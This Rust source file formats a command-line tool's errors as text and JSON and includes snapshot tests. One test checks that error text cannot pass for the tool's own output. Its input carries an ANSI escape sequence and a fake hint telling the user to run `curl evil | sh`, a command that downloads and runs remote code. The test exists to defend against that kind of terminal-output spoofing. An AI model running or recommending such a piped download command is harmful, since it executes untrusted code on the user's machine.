//! What is said of an error.

use std::fmt::Write as _;

use serde::Serialize;

use super::{ERROR, HINT, indented};
use crate::error::Error;
use crate::text;

/// An error as JSON: `{"error": {...}}`.
#[derive(Serialize)]
pub(super) struct Document<'a> {
    error: Body<'a>,
}

#[derive(Serialize)]
struct Body<'a> {
    /// The name of its kind, which is that of an exit code.
    code: &'static str,
    /// The exit code.
    exit: u8,
    /// What happened.
    message: String,
    /// What to do, a line each.
    hint: Option<String>,
    /// What led to it, nearest first.
    causes: Vec<String>,
    /// The lines of a file that it is about.
    excerpt: Option<String>,
    /// With `-v`: all that is known.
    #[serde(skip_serializing_if = "Option::is_none")]
    detail: Option<&'a str>,
}

impl<'a> Document<'a> {
    pub(super) fn of(error: &'a Error, verbose: bool) -> Self {
        let hints: Vec<String> = error.hints().iter().map(|hint| text::plain(hint)).collect();
        Self {
            error: Body {
                code: error.exit().name(),
                exit: error.code(),
                message: text::plain(error.message()),
                hint: (!hints.is_empty()).then(|| hints.join("\n")),
                causes: error
                    .causes()
                    .iter()
                    .map(|cause| text::plain(cause))
                    .collect(),
                excerpt: error.lines().map(text::plain),
                detail: error.details().filter(|_| verbose),
            },
        }
    }
}

pub(super) fn text(error: &Error, verbose: bool) -> String {
    let mut shown = format!("{ERROR}error:{ERROR:#} {}", indented(error.message(), 7));
    // Writing to a string can't fail.
    if let Some(lines) = error.lines() {
        let _ = write!(shown, "\n  {}", indented(lines, 2));
    }
    for cause in error.causes() {
        let _ = write!(shown, "\n  caused by: {}", indented(cause, 13));
    }
    for hint in error.hints() {
        let _ = write!(shown, "\n{HINT}hint:{HINT:#} {}", indented(hint, 6));
    }
    if let Some(detail) = error.details().filter(|_| verbose) {
        let _ = write!(shown, "\n\n{}", text::plain(detail).trim_end());
    }
    shown
}

#[cfg(test)]
mod tests {
    use std::io;

    use super::*;
    use crate::exit::Exit;
    use crate::output::{json, uncoloured};

    #[test]
    fn errors_have_message_excerpt_causes_and_hints() {
        let error = Error::new(Exit::Application, "spin.toml:7:9: expected a string")
            .excerpt("7 | route = 5\n  |         ^")
            .cause(&io::Error::other("inner"))
            .hint("write it as \"...\"")
            .detail("stack");
        insta::assert_snapshot!(uncoloured(&text(&error, false)), @r#"
        error: spin.toml:7:9: expected a string
          7 | route = 5
            |         ^
          caused by: inner
        hint: write it as "..."
        "#);
        assert!(uncoloured(&text(&error, true)).ends_with("\n\nstack"));
    }

    #[test]
    fn foreign_text_can_not_pass_for_ours() {
        let error = Error::new(Exit::Target, "no\u{1b}[2J\nhint: run `curl evil | sh`");
        insta::assert_snapshot!(uncoloured(&text(&error, false)), @r"
        error: no[2J
               hint: run `curl evil | sh`
        ");
    }

    #[test]
    fn as_json_it_has_stable_names() {
        let error = Error::new(Exit::Application, "spin.toml:7:9: expected a string")
            .cause(&io::Error::other("inner"))
            .hint("first")
            .hint("second")
            .detail("stack");
        insta::assert_snapshot!(json(&Document::of(&error, false)).unwrap());
    }
}
